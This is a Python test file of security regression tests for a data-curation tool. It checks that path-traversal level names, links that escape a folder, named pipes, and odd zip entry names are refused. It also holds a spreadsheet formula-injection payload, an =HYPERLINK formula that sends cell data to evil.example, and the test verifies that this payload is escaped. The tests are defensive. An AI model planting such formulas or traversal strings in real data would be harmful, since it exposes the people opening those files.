"""The holes a hostile try of wave two found (issue #27), one test each so that they stay
closed: each failed on the code before its fix. The batch job's bad inputs are here; the
served demo's (rebinding, internals, uploads, markup) are in test_serving.py and
test_browser.py."""

from __future__ import annotations

import copy
import os
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import batch, one_error_line
from PIL import Image

from lib.runtime.errors import GapscopeError
from lib.store.runs import RunStore

N, D = 60, 8


def _vectors(seed: int, n: int = N) -> np.ndarray:
    return np.random.default_rng(seed).normal(size=(n, D)).astype(np.float32)


def _parquet(path, column: str, vectors: np.ndarray, ids=None) -> None:
    ids = [f"{path.stem}{i}.png" for i in range(len(vectors))] if ids is None else ids
    pd.DataFrame({"id": ids, column: list(vectors)}).to_parquet(path)


def _run_on(tmp_path, real, synthetic, *extra) -> subprocess.CompletedProcess:
    return batch(
        "run",
        "--real",
        real,
        "--synthetic",
        synthetic,
        "--results",
        tmp_path / "results",
        "--k",
        5,
        "--n-neighbors",
        5,
        "--no-plots",
        "--atlas-level",
        "none",
        *extra,
    )


# ---- 1. a level name is never a path ---------------------------------------------------


@pytest.mark.parametrize(
    "column", ["../../../../../../../tmp/evil", "a/b", "..", ".hidden", "x" * 300]
)
def test_1_a_hostile_level_name_is_refused_and_nothing_is_written(tmp_path, column):
    target = tmp_path / "outside"
    target.mkdir()
    if column.startswith("../"):
        column = "../" * 12 + str(target / "evil").lstrip("/")
    for domain, seed in (("real", 1), ("synthetic", 2)):
        _parquet(tmp_path / f"{domain}.parquet", column, _vectors(seed))
    error = one_error_line(
        _run_on(tmp_path, tmp_path / "real.parquet", tmp_path / "synthetic.parquet")
    )
    assert "level name" in error and "cannot name a file" in error
    assert len(error) < 400  # a 300-character name is cut short, not echoed whole
    assert list(target.iterdir()) == []
    assert RunStore(tmp_path / "results").latest_id() is None


def test_1_a_dot_level_name_from_a_folder_file_is_refused(tmp_path):
    from lib.inputs.embeddings import open_embeddings

    folder = tmp_path / "levels"
    folder.mkdir()
    np.save(folder / "..npy", _vectors(1))  # its stem, ".", would name the folder itself
    pd.DataFrame({"id": [f"r{i}" for i in range(N)]}).to_csv(folder / "metadata.csv")
    with pytest.raises(GapscopeError, match="cannot name a file"):
        open_embeddings(folder, "real")


def test_1_the_store_refuses_a_level_that_would_leave_the_run(tmp_path):
    store = RunStore(tmp_path / "results")
    with pytest.raises(GapscopeError, match="cannot name a file"):
        with store.writing() as writer:
            writer.features("../../evil", _vectors(1))
    assert not (tmp_path / "evil.npy").exists() and store.latest_id() is None


def test_1_a_model_name_is_never_a_path(tmp_path):
    from lib.jobs.training import model_dir

    for name in ("../x", "a/b", "", ".", "x\ny"):
        with pytest.raises(GapscopeError, match="cannot name a file"):
            model_dir(tmp_path, name)
    assert model_dir(tmp_path, "lite0-v2") == tmp_path / "models" / "lite0-v2"


# ---- 10. what a scan must not open ------------------------------------------------------------


def test_10_a_link_loop_a_pipe_and_unread_formats_are_listed_as_skipped(tmp_path):
    from concurrent.futures import ThreadPoolExecutor
    from concurrent.futures import TimeoutError as Late

    from lib.inputs.images import Prepare, open_folder

    folder = tmp_path / "real"
    folder.mkdir()
    for i in range(3):
        Image.new("RGB", (8, 8), (40 * i, 0, 0)).save(folder / f"ok{i}.png")
    Image.new("RGB", (8, 8), (0, 200, 0)).save(folder / "still.gif")
    os.symlink(folder / "b.png", folder / "a.png")  # a.png -> b.png -> a.png
    os.symlink(folder / "a.png", folder / "b.png")
    os.mkfifo(folder / "pipe.png")  # opening it would wait for a writer forever
    (folder / "photo.heic").write_bytes(b"\0" * 64)
    with ThreadPoolExecutor(1) as pool:
        scan = pool.submit(open_folder, folder, "real", Prepare())
        try:
            image_set = scan.result(timeout=60)
        except Late:
            os.close(os.open(folder / "pipe.png", os.O_WRONLY | os.O_NONBLOCK))  # let it go
            pytest.fail("the scan hung on a named pipe")
    assert sorted(r.relpath for r in image_set.records) == [
        "ok0.png",
        "ok1.png",
        "ok2.png",
        "still.gif",
    ]
    reasons = {Path(s.path).name: s.reason for s in image_set.skipped}
    assert reasons["a.png"] == reasons["b.png"] == "symlink loop"
    assert "not a regular file" in reasons["pipe.png"]
    assert ".heic images are not read" in reasons["photo.heic"]


# ---- 11. a Parquet with no rows --------------------------------------------------------


def test_11_a_parquet_with_no_rows_is_a_one_line_error(tmp_path):
    pd.DataFrame({"id": pd.Series([], dtype=str), "0": pd.Series([], dtype="float32")}).to_parquet(
        tmp_path / "real.parquet"
    )
    _parquet(tmp_path / "synthetic.parquet", "embedding", _vectors(2))
    error = one_error_line(
        _run_on(tmp_path, tmp_path / "real.parquet", tmp_path / "synthetic.parquet")
    )
    assert "hold no rows" in error


def test_17_nan_rows_of_a_float_array_are_skipped_not_published_black(tmp_path):
    from lib.inputs.images import Prepare, open_array

    array = np.random.default_rng(0).random((6, 8, 8, 3), dtype=np.float32)  # [0, 1]
    array[1] = np.nan
    array[4, 0, 0, 0] = np.inf
    np.save(tmp_path / "real.npy", array)
    image_set = open_array(tmp_path / "real.npy", "real", Prepare())
    assert [r.row for r in image_set.records] == [0, 2, 3, 5]
    assert [s.reason for s in image_set.skipped] == ["holds NaN or infinite values"] * 2
    assert image_set.array_scale == 255.0  # the finite rows say [0, 1], the inf does not count
    array[:] = np.nan
    np.save(tmp_path / "real.npy", array)
    with pytest.raises(GapscopeError, match="none of the 6 images"):
        open_array(tmp_path / "real.npy", "real", Prepare())


# ---- 12. ids outside the domain's folder, and repeated ids ------------------------------


def test_12_ids_naming_files_outside_the_folder_get_no_thumbnail(tmp_path):
    from lib.inputs.embeddings import open_embeddings

    secret = tmp_path / "outside" / "secret.png"
    secret.parent.mkdir()
    Image.new("RGB", (8, 8), (255, 0, 0)).save(secret)
    domain = tmp_path / "data"
    domain.mkdir()
    Image.new("RGB", (8, 8), (0, 0, 255)).save(domain / "inside.png")
    os.symlink(secret, domain / "link.png")  # a link out of the folder is outside too
    ids = ["inside.png", str(secret), "../outside/secret.png", "link.png"]
    ids += [f"missing{i}.png" for i in range(N - len(ids))]
    _parquet(domain / "real.parquet", "embedding", _vectors(1), ids)
    got = open_embeddings(domain / "real.parquet", "real")
    assert got.paths[0] == str((domain / "inside.png").resolve())
    assert list(got.paths[1:4]) == ["", "", ""]


def test_12_repeated_ids_are_a_one_line_error(tmp_path):
    _parquet(tmp_path / "real.parquet", "embedding", _vectors(1), ["same"] * N)
    _parquet(tmp_path / "synthetic.parquet", "embedding", _vectors(2))
    error = one_error_line(
        _run_on(tmp_path, tmp_path / "real.parquet", tmp_path / "synthetic.parquet")
    )
    assert "ids must be unique" in error and "'same' names 60 rows" in error


# ---- 8. a tag holding the CSV's separator -------------------------------------------------


def test_8_a_tag_holding_the_separator_is_refused(tmp_path):
    from lib.store.annotations import Annotations, ImageKey

    notes = Annotations(tmp_path / "notes.sqlite")
    with pytest.raises(GapscopeError, match="cannot hold ';'"):
        notes.tag([ImageKey("h", "a.png", "real")], "a;b")
    assert notes.tags() == {}


# ---- 9. formulas in the CSVs ------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_9_formulas_from_data_are_written_as_text_and_read_back(published_run, tmp_path):
    import csv
    import io

    from lib.inputs.images import read_metadata
    from lib.store.annotations import Annotations, keys_of
    from lib.store.curation import annotated, corrected_metadata, to_csv

    notes = Annotations(tmp_path / "notes.sqlite")
    row = int(published_run.images.index[published_run.images["domain"] == "synthetic"][0])
    key = keys_of(published_run.rows, [row])[0]
    notes.set_label(key, published_run.rows.at[row, "category"], FORMULA)
    notes.tag([key], "@SUM(1+1)")
    notes.tag([key], "-2+3")
    cells = next(csv.DictReader(io.StringIO(to_csv(annotated(published_run, notes)))))
    assert cells["label"] == "'" + FORMULA
    assert cells["tags"] == "'-2+3;@SUM(1+1)"  # the joined cell starts with '-'
    assert cells["id"] == str(row)  # numbers stay numbers

    text = corrected_metadata(published_run, notes, "synthetic")
    written = [r for r in csv.DictReader(io.StringIO(text)) if r["category"].startswith("'")]
    assert [r["category"] for r in written] == ["'" + FORMULA]
    (tmp_path / "next").mkdir()
    (tmp_path / "next" / "metadata.csv").write_text(text)
    _, rows = read_metadata(tmp_path / "next")
    assert [r["category"] for r in rows if r["category"].startswith("=")] == [FORMULA]


def test_9_plain_numbers_are_not_escaped_and_escaping_reverses():
    from lib.inputs.spreadsheet import escape, unescape

    for number in ("-3.5", "+1e3", "-0", ".5"):
        assert escape(number) == number
    for text in ("=1+1", "+x", "-x", "@x", "\tx", "\rx", "'=x", "''=x", "plain", "'plain", ""):
        assert unescape(escape(text)) == text
        assert not escape(text).startswith(("=", "+", "-", "@", "\t", "\r")) or text == ""


# ---- 17. zip entries ---------------------------------------------------------------------


def test_17_zip_entries_hold_no_separator_or_control_character(published_run, tmp_path):
    from lib.store.annotations import Annotations, keys_of
    from lib.store.curation import gather_zip

    # file names a Linux folder may hold: a backslash, a newline, a leading dot
    run = copy.copy(published_run)
    images = published_run.images.copy()  # an image run: its rows are its images
    images.loc[[0, 1], "relpath"] = ["real/x\\y\nz.png", "real/..hidden.png"]
    run.__dict__["images"] = images
    notes = Annotations(tmp_path / "notes.sqlite")
    keys = keys_of(run.rows, [0, 1])
    notes.tag(keys, "odd")
    notes.set_label(keys[0], run.rows.at[0, "category"], "a\\b/../c")
    out = tmp_path / "odd.zip"
    gather_zip(run, notes, "odd", out)
    names = zipfile.ZipFile(out).namelist()
    assert len(names) == 2
    for name in names:
        folder, _, file = name.partition("/")
        assert "\\" not in name and "\n" not in name, name
        assert folder not in ("", ".", "..") and file and "/" not in file, name


def test_17_a_refused_long_value_is_not_echoed_back_whole(tmp_path):
    from lib.store.annotations import Annotations, ImageKey

    notes = Annotations(tmp_path / "notes.sqlite")
    with pytest.raises(GapscopeError) as refused:
        notes.tag([ImageKey("h", "a.png", "real")], "x" * 10_000)
    assert len(str(refused.value)) < 300 and "10,000 characters" in str(refused.value)
